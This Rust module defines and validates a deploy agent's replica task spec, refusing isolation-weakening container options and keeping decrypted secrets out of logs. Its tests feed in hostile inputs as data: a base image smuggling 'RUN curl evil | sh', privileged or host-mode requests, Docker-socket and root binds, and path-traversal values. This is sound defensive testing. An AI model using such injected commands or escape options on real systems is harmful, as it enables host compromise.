//! The deploy task's payload: what the control plane puts in a task and the agent executes.
//!
//! A [`ReplicaSpec`] says which replica slot of which app runs which release: the source at an exact commit,
//! how to build it, the limits of its plan, its env (plain values, and secrets as one age ciphertext
//! encrypted to this node only), its health check and the hostnames the node proxy routes to it.
//!
//! The spec also *parses* fields a task must never carry (`privileged`, `network_mode`, `binds`, ...):
//! a buggy or hostile control plane's task is then refused with a [`SpecError::Refused`] that names the
//! field, instead of the field being silently ignored or the task failing as malformed JSON.
//!
//! What it must not do: decrypt secrets for anyone but a driver (the only way to the plaintext is the
//! crate-private [`ReplicaSpec::open_secrets`]), or put a secret's plaintext into an error or a `Debug`
//! output.

use std::collections::BTreeMap;
use std::fmt;

use cairn_proto::Registry;
use cairn_schema::{Ciphertext, Domain, EnvName, GitUrl, Identity, Name, Secret, SecretError};
use serde::{Deserialize, Serialize};

/// One replica slot of one release of an app, as a deploy task carries it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ReplicaSpec {
    /// The Cairn installation this replica belongs to; every container and process the agent makes is
    /// labelled with it, so two installations on one machine never touch each other's replicas.
    pub installation: Name,
    pub app: Name,
    /// The release number: a (config commit, source commit) pair of the app.
    pub release: u64,
    /// The replica slot (0-based) this task fills; a deploy replaces whatever runs in the slot.
    pub slot: u32,
    /// The config repository commit that produced this release (a short label-safe string).
    pub config_commit: String,
    pub source: SourceSpec,
    pub build: BuildSpec,
    /// A prebuilt image in a registry, when the control plane has one: the agent pulls it by digest
    /// instead of building.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub image: Option<ImageRef>,
    /// The registry to push the release's image to once this node has it, when the control plane has
    /// one and no node pushed the image yet (other nodes' tasks then carry it as `image`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub push_to: Option<Registry>,
    pub limits: Limits,
    /// Plain env vars. `PORT` is always set by the agent and wins over a value here.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub env: BTreeMap<EnvName, String>,
    /// Secret env vars: an armored age ciphertext of a JSON object `{"NAME": "value"}`, encrypted to this
    /// node's recipient. Decrypted only by a driver, right before it starts the replica.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub secret_env: Option<Ciphertext>,
    #[serde(default)]
    pub health: HealthSpec,
    /// Hostnames the node proxy routes to this app (`<app>.<base domain>` and the app's domains).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub hostnames: Vec<Domain>,
    /// Fields that would weaken isolation. Parsed only to be refused.
    #[serde(flatten)]
    pub isolation: IsolationRequest,
}

/// The app's source: a git remote and the exact commit to build.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SourceSpec {
    pub url: GitUrl,
    /// A full commit id (40 or 64 hex digits). Never a branch: the control plane resolved it already.
    pub commit: String,
}

/// How the release's image is built (from the runtime manifest).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BuildSpec {
    /// Build with the app's own `Dockerfile` at the root of its source.
    #[serde(default)]
    pub dockerfile: bool,
    /// Base image of the generated Dockerfile (Docker driver, unless `dockerfile`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub base_image: Option<String>,
    /// Shell commands run in the source directory at build time, in order.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub commands: Vec<String>,
    /// The shell command that starts the app (required unless `dockerfile`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub start: Option<String>,
    /// The port the app listens on inside its container; given to it as `PORT`. (The process driver picks
    /// a free port on 127.0.0.1 instead and passes that as `PORT`.)
    pub port: u16,
}

/// An image in a registry, pinned by digest (the wire type: a deploy task carries it).
pub use cairn_proto::RegistryImage as ImageRef;

/// The plan's limits for one replica.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Limits {
    /// CPU in thousandths of a core (`500` is half a core).
    pub cpu_millis: u32,
    pub memory_bytes: u64,
}

/// The HTTP check a new replica must pass before it gets traffic.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HealthSpec {
    #[serde(default = "default_health_path")]
    pub path: String,
    /// How long one probe may take.
    #[serde(default = "default_health_timeout")]
    pub timeout_ms: u64,
    /// How many probes' worth of waiting a new replica gets before the deploy fails: pauses adding up
    /// to `attempts - 1` times 200 ms, the first ones shorter (`health::pauses`), so at most
    /// `attempts + 3` probes and a wait bounded by `(attempts + 3) × timeout_ms + (attempts - 1) × 200 ms`.
    #[serde(default = "default_health_attempts")]
    pub attempts: u32,
}

fn default_health_path() -> String {
    "/".into()
}
fn default_health_timeout() -> u64 {
    5_000
}
fn default_health_attempts() -> u32 {
    30
}

impl Default for HealthSpec {
    fn default() -> Self {
        HealthSpec {
            path: default_health_path(),
            timeout_ms: default_health_timeout(),
            attempts: default_health_attempts(),
        }
    }
}

/// Container options that weaken isolation. No manifest can ask for them and the agent grants none of
/// them; they exist here so a task carrying one is refused by name. Any JSON shape parses.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct IsolationRequest {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub privileged: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub network_mode: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pid_mode: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ipc_mode: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub userns_mode: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub uts_mode: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub binds: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub mounts: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub volumes: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub devices: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cap_add: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub security_opt: Option<serde_json::Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub host_config: Option<serde_json::Value>,
}

impl IsolationRequest {
    /// The first field that asks for something (`null`, `false`, `""`, `[]` and `{}` ask for nothing).
    pub fn first_request(&self) -> Option<&'static str> {
        let fields: [(&'static str, &Option<serde_json::Value>); 13] = [
            ("privileged", &self.privileged),
            ("network_mode", &self.network_mode),
            ("pid_mode", &self.pid_mode),
            ("ipc_mode", &self.ipc_mode),
            ("userns_mode", &self.userns_mode),
            ("uts_mode", &self.uts_mode),
            ("binds", &self.binds),
            ("mounts", &self.mounts),
            ("volumes", &self.volumes),
            ("devices", &self.devices),
            ("cap_add", &self.cap_add),
            ("security_opt", &self.security_opt),
            ("host_config", &self.host_config),
        ];
        fields.into_iter().find_map(|(name, v)| {
            let asks = match v {
                None | Some(serde_json::Value::Null) | Some(serde_json::Value::Bool(false)) => {
                    false
                }
                Some(serde_json::Value::String(s)) => !s.is_empty(),
                Some(serde_json::Value::Array(a)) => !a.is_empty(),
                Some(serde_json::Value::Object(o)) => !o.is_empty(),
                Some(_) => true,
            };
            asks.then_some(name)
        })
    }
}

/// Why a task is refused or invalid. Never carries secret plaintext.
#[derive(Debug, thiserror::Error)]
pub enum SpecError {
    #[error(
        "the task asks for `{field}`, which would weaken the replica's isolation; the agent never grants it"
    )]
    Refused { field: &'static str },
    #[error("invalid task field `{field}`: {why}")]
    Invalid { field: &'static str, why: String },
    #[error("the task is for installation `{task}`, but this agent serves installation `{agent}`")]
    WrongInstallation { task: String, agent: String },
    #[error("the task is not valid JSON for a replica spec")]
    Json(#[source] serde_json::Error),
    #[error("the secret env cannot be decrypted with this node's identity")]
    Secrets(#[source] SecretError),
    #[error("the decrypted secret env is not a JSON object of NAME: \"value\" pairs")]
    SecretsShape,
    #[error("secret env name `{0}` is not a valid environment variable name")]
    SecretName(String),
    #[error("secret env `{0}` holds a NUL byte, which an environment variable cannot carry")]
    SecretNul(String),
}

impl ReplicaSpec {
    /// Parses a task payload and checks it ([`ReplicaSpec::check`]).
    pub fn from_json(bytes: &[u8]) -> Result<Self, SpecError> {
        let spec: ReplicaSpec = serde_json::from_slice(bytes).map_err(SpecError::Json)?;
        spec.check()?;
        Ok(spec)
    }

    /// Refuses isolation requests, then validates every field a driver turns into a name, a label, a
    /// Dockerfile line or a process argument.
    pub fn check(&self) -> Result<(), SpecError> {
        if let Some(field) = self.isolation.first_request() {
            return Err(SpecError::Refused { field });
        }
        let invalid = |field: &'static str, why: String| Err(SpecError::Invalid { field, why });
        if !is_commit_id(&self.source.commit) {
            return invalid(
                "source.commit",
                format!(
                    "`{}` is not a full commit id (40 or 64 hex digits)",
                    self.source.commit
                ),
            );
        }
        if self.config_commit.is_empty()
            || self.config_commit.len() > 80
            || !self
                .config_commit
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || b"._:-".contains(&c))
        {
            return invalid(
                "config_commit",
                "use 1 to 80 letters, digits, `.`, `_`, `:` or `-`".into(),
            );
        }
        if self.build.port == 0 {
            return invalid("build.port", "the port must be 1 to 65535".into());
        }
        if let Some(img) = &self.build.base_image
            && !is_image_reference(img)
        {
            return invalid(
                "build.base_image",
                format!("`{img}` is not an image reference"),
            );
        }
        if !self.build.dockerfile
            && self
                .build
                .start
                .as_deref()
                .is_none_or(|s| s.trim().is_empty())
        {
            return invalid(
                "build.start",
                "a runtime without its own Dockerfile needs a start command".into(),
            );
        }
        for cmd in self.build.commands.iter().chain(self.build.start.iter()) {
            if cmd.contains('\0') {
                return invalid("build", "a command holds a NUL byte".into());
            }
        }
        if let Some(image) = &self.image {
            if !is_image_reference(&image.reference) || image.reference.contains('@') {
                return invalid(
                    "image.reference",
                    format!("`{}` is not an image name", image.reference),
                );
            }
            if !cairn_proto::registry::is_sha256_digest(&image.digest) {
                return invalid(
                    "image.digest",
                    format!("`{}` is not a sha256 digest", image.digest),
                );
            }
        }
        if self.limits.cpu_millis == 0 {
            return invalid("limits.cpu_millis", "a replica needs some CPU".into());
        }
        // Docker refuses less than 6 MiB; nothing useful runs in less anyway.
        if self.limits.memory_bytes < 6 << 20 {
            return invalid(
                "limits.memory_bytes",
                "a replica needs at least 6 MiB".into(),
            );
        }
        for (k, v) in &self.env {
            if v.contains('\0') {
                return invalid("env", format!("`{k}` holds a NUL byte"));
            }
        }
        let h = &self.health;
        if !h.path.starts_with('/')
            || h.path.len() > 1024
            || h.path.chars().any(|c| c.is_whitespace() || c.is_control())
        {
            return invalid(
                "health.path",
                format!("`{}` is not an absolute URL path", h.path),
            );
        }
        if h.timeout_ms == 0 || h.timeout_ms > 600_000 {
            return invalid("health.timeout_ms", "use 1 ms to 10 minutes".into());
        }
        if h.attempts == 0 || h.attempts > 1000 {
            return invalid("health.attempts", "use 1 to 1000".into());
        }
        Ok(())
    }

    /// Also checks that the task belongs to the installation this agent serves.
    pub fn check_for(&self, installation: &Name) -> Result<(), SpecError> {
        self.check()?;
        if &self.installation != installation {
            return Err(SpecError::WrongInstallation {
                task: self.installation.to_string(),
                agent: installation.to_string(),
            });
        }
        Ok(())
    }

    /// The replica's deterministic name: `cairn-<installation>-<app>-r<release>-s<slot>`.
    pub fn replica_name(&self) -> String {
        format!(
            "cairn-{}-{}-r{}-s{}",
            self.installation, self.app, self.release, self.slot
        )
    }

    /// The image's tag: `cairn/<installation>/<app>:<build key>`. One image per build input
    /// ([`ReplicaSpec::build_key`]), which every release sharing the key runs; the installation in the
    /// name keeps two installations on one engine from retagging each other's images.
    pub fn image_tag(&self) -> String {
        format!(
            "cairn/{}/{}:{}",
            self.installation,
            self.app,
            self.build_key()
        )
    }

    /// What decides the image's bytes (source commit and build recipe: [`cairn_proto::build`]); a
    /// release that changes anything else (env, limits, hostnames, health, port, start command) has
    /// the key of the release before it and runs its image.
    pub fn build_key(&self) -> String {
        cairn_proto::build::build_key(
            &self.source.commit,
            cairn_proto::build::Recipe {
                dockerfile: self.build.dockerfile,
                base_image: self.build.base_image.as_deref(),
                commands: &self.build.commands,
            },
        )
    }

    /// Decrypts the secret env with this node's identity. Crate-private: only a driver calls it, right
    /// before it starts the replica.
    pub(crate) fn open_secrets(&self, identity: &Identity) -> Result<SecretEnv, SpecError> {
        let Some(ct) = &self.secret_env else {
            return Ok(SecretEnv(Vec::new()));
        };
        let plain = identity.decrypt(ct).map_err(SpecError::Secrets)?;
        // Never show serde's message: it can quote a value.
        let map: BTreeMap<String, String> =
            serde_json::from_slice(plain.expose()).map_err(|_| SpecError::SecretsShape)?;
        drop(plain);
        let mut out = Vec::with_capacity(map.len());
        for (k, v) in map {
            let secret = Secret::new(v.into_bytes());
            let name = EnvName::new(&k).map_err(|_| SpecError::SecretName(k.clone()))?;
            if secret.expose().contains(&0) {
                return Err(SpecError::SecretNul(k));
            }
            out.push((name, secret));
        }
        Ok(SecretEnv(out))
    }
}

/// Decrypted secret env vars. Debug shows names only; values are zeroed on drop.
pub(crate) struct SecretEnv(Vec<(EnvName, Secret)>);

impl fmt::Debug for SecretEnv {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_list()
            .entries(self.0.iter().map(|(k, _)| k.as_str()))
            .finish()
    }
}

impl SecretEnv {
    pub(crate) fn iter(&self) -> impl Iterator<Item = (&str, &Secret)> {
        self.0.iter().map(|(k, v)| (k.as_str(), v))
    }

    pub(crate) fn contains(&self, name: &str) -> bool {
        self.0.iter().any(|(k, _)| k.as_str() == name)
    }

    /// `text` with every secret value replaced by `<redacted>`: for error messages that come back from a
    /// place that saw the env (the Docker engine).
    pub(crate) fn redact(&self, text: &str) -> String {
        let mut out = text.to_owned();
        for (_, v) in &self.0 {
            if let Ok(s) = v.expose_str()
                && !s.is_empty()
            {
                out = out.replace(s, "<redacted>");
            }
        }
        out
    }
}

fn is_commit_id(s: &str) -> bool {
    (s.len() == 40 || s.len() == 64) && s.bytes().all(|c| c.is_ascii_hexdigit())
}

/// A Docker image reference: `[host[:port]/]path[:tag][@digest]`, in the characters Docker allows, never
/// starting with `-` and never holding whitespace (it becomes a `FROM` line).
fn is_image_reference(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 255
        && s.as_bytes()[0].is_ascii_alphanumeric()
        && s.bytes()
            .all(|c| c.is_ascii_alphanumeric() || b"._-/:@".contains(&c))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn base() -> serde_json::Value {
        serde_json::json!({
            "installation": "test",
            "app": "web",
            "release": 3,
            "slot": 0,
            "config_commit": "0123456789abcdef0123456789abcdef01234567",
            "source": {"url": "https://github.com/acme/web.git", "commit": "89abcdef0123456789abcdef0123456789abcdef"},
            "build": {"base_image": "debian:12", "commands": ["make"], "start": "./web", "port": 8080},
            "limits": {"cpu_millis": 500, "memory_bytes": 268435456},
            "env": {"GREETING": "hi"},
            "health": {"path": "/healthz", "timeout_ms": 2000},
            "hostnames": ["web.example.com"]
        })
    }

    fn with(key: &str, v: serde_json::Value) -> Vec<u8> {
        let mut j = base();
        j[key] = v;
        serde_json::to_vec(&j).unwrap()
    }

    #[test]
    fn a_plain_task_parses_with_defaults() {
        let spec = ReplicaSpec::from_json(&serde_json::to_vec(&base()).unwrap()).unwrap();
        assert_eq!(spec.health.attempts, 30);
        assert_eq!(spec.replica_name(), "cairn-test-web-r3-s0");
        assert_eq!(
            spec.image_tag(),
            format!("cairn/test/web:{}", spec.build_key())
        );
        let again: ReplicaSpec =
            serde_json::from_slice(&serde_json::to_vec(&spec).unwrap()).unwrap();
        assert_eq!(again, spec);
    }

    #[test]
    fn isolation_requests_parse_and_are_refused_by_name() {
        for (key, v) in [
            ("privileged", serde_json::json!(true)),
            ("privileged", serde_json::json!("yes")),
            ("network_mode", serde_json::json!("host")),
            ("pid_mode", serde_json::json!("host")),
            ("binds", serde_json::json!(["/:/host"])),
            (
                "binds",
                serde_json::json!(["/var/run/docker.sock:/var/run/docker.sock"]),
            ),
            (
                "mounts",
                serde_json::json!([{"Type": "bind", "Source": "/"}]),
            ),
            ("devices", serde_json::json!([{"PathOnHost": "/dev/kmsg"}])),
            ("cap_add", serde_json::json!(["SYS_ADMIN"])),
            ("host_config", serde_json::json!({"Privileged": true})),
        ] {
            let parsed: ReplicaSpec = serde_json::from_slice(&with(key, v.clone())).unwrap();
            match parsed.check() {
                Err(SpecError::Refused { field }) => assert_eq!(field, key),
                other => panic!("{key}={v}: {other:?}"),
            }
        }
        for (key, v) in [
            ("privileged", serde_json::json!(false)),
            ("binds", serde_json::json!([])),
            ("network_mode", serde_json::Value::Null),
        ] {
            ReplicaSpec::from_json(&with(key, v.clone()))
                .unwrap_or_else(|e| panic!("{key}={v}: {e}"));
        }
    }

    #[test]
    fn fields_that_become_names_or_dockerfile_lines_are_validated() {
        let mut j = base();
        j["build"]["base_image"] = serde_json::json!("debian:12\nRUN curl evil | sh");
        assert!(matches!(
            ReplicaSpec::from_json(&serde_json::to_vec(&j).unwrap()),
            Err(SpecError::Invalid {
                field: "build.base_image",
                ..
            })
        ));
        let mut j = base();
        j["source"]["commit"] = serde_json::json!("main");
        assert!(matches!(
            ReplicaSpec::from_json(&serde_json::to_vec(&j).unwrap()),
            Err(SpecError::Invalid {
                field: "source.commit",
                ..
            })
        ));
        let mut j = base();
        j["app"] = serde_json::json!("../etc");
        assert!(matches!(
            ReplicaSpec::from_json(&serde_json::to_vec(&j).unwrap()),
            Err(SpecError::Json(_))
        ));
        let mut j = base();
        j["source"]["url"] = serde_json::json!("file:///etc");
        assert!(ReplicaSpec::from_json(&serde_json::to_vec(&j).unwrap()).is_err());
        let mut j = base();
        j["health"]["path"] = serde_json::json!("healthz");
        assert!(ReplicaSpec::from_json(&serde_json::to_vec(&j).unwrap()).is_err());
    }

    #[test]
    fn secrets_open_only_with_the_right_identity_and_never_print() {
        let node = Identity::generate();
        let other = Identity::generate();
        let canary = "canary-5f2c9e1d";
        let ct = cairn_schema::secret::encrypt(
            format!(r#"{{"DB_PASSWORD": "{canary}"}}"#).as_bytes(),
            &[node.recipient()],
        )
        .unwrap();
        let mut spec = ReplicaSpec::from_json(&serde_json::to_vec(&base()).unwrap()).unwrap();
        spec.secret_env = Some(ct);
        let env = spec.open_secrets(&node).unwrap();
        let (k, v) = env.iter().next().unwrap();
        assert_eq!((k, v.expose()), ("DB_PASSWORD", canary.as_bytes()));
        assert!(!format!("{env:?} {spec:?}").contains(canary));
        assert_eq!(env.redact(&format!("x {canary} y")), "x <redacted> y");
        let err = spec.open_secrets(&other).unwrap_err();
        assert!(matches!(
            err,
            SpecError::Secrets(SecretError::NotForThisIdentity)
        ));

        let bad = cairn_schema::secret::encrypt(
            format!(r#"{{"X": 5, "Y": "{canary}"}}"#).as_bytes(),
            &[node.recipient()],
        )
        .unwrap();
        spec.secret_env = Some(bad);
        let err = spec.open_secrets(&node).unwrap_err();
        assert!(matches!(err, SpecError::SecretsShape));
        assert!(!format!("{err} {err:?}").contains(canary));
    }

    /// What a release changes without a new image, and what makes one.
    #[test]
    fn the_build_key_follows_the_build_inputs_only() {
        let spec = ReplicaSpec::from_json(&serde_json::to_vec(&base()).unwrap()).unwrap();
        let key = spec.build_key();
        let same = |edit: fn(&mut serde_json::Value)| {
            let mut j = base();
            edit(&mut j);
            ReplicaSpec::from_json(&serde_json::to_vec(&j).unwrap())
                .unwrap()
                .build_key()
        };
        type Edit = fn(&mut serde_json::Value);
        let unchanged: [(&str, Edit); 9] = [
            ("release", |j| j["release"] = 9.into()),
            ("slot", |j| j["slot"] = 2.into()),
            ("config commit", |j| j["config_commit"] = "fedcba".into()),
            ("env", |j| {
                j["env"] = serde_json::json!({"GREETING": "hello", "X": "1"})
            }),
            ("limits", |j| {
                j["limits"]["memory_bytes"] = 536870912u64.into()
            }),
            ("start", |j| j["build"]["start"] = "./web --fast".into()),
            ("port", |j| j["build"]["port"] = 9090.into()),
            ("health", |j| j["health"]["path"] = "/up".into()),
            ("hostnames", |j| {
                j["hostnames"] = serde_json::json!(["www.example.com"])
            }),
        ];
        for (what, edit) in unchanged {
            assert_eq!(same(edit), key, "{what} must not change the image");
        }
        let changed: [(&str, Edit); 4] = [
            ("source commit", |j| {
                j["source"]["commit"] = "0123456789abcdef0123456789abcdef01234567".into()
            }),
            ("base image", |j| {
                j["build"]["base_image"] = "debian:13".into()
            }),
            ("commands", |j| {
                j["build"]["commands"] = serde_json::json!(["make", "make test"])
            }),
            ("dockerfile", |j| j["build"]["dockerfile"] = true.into()),
        ];
        for (what, edit) in changed {
            assert_ne!(same(edit), key, "{what} must make a new image");
        }
    }
}
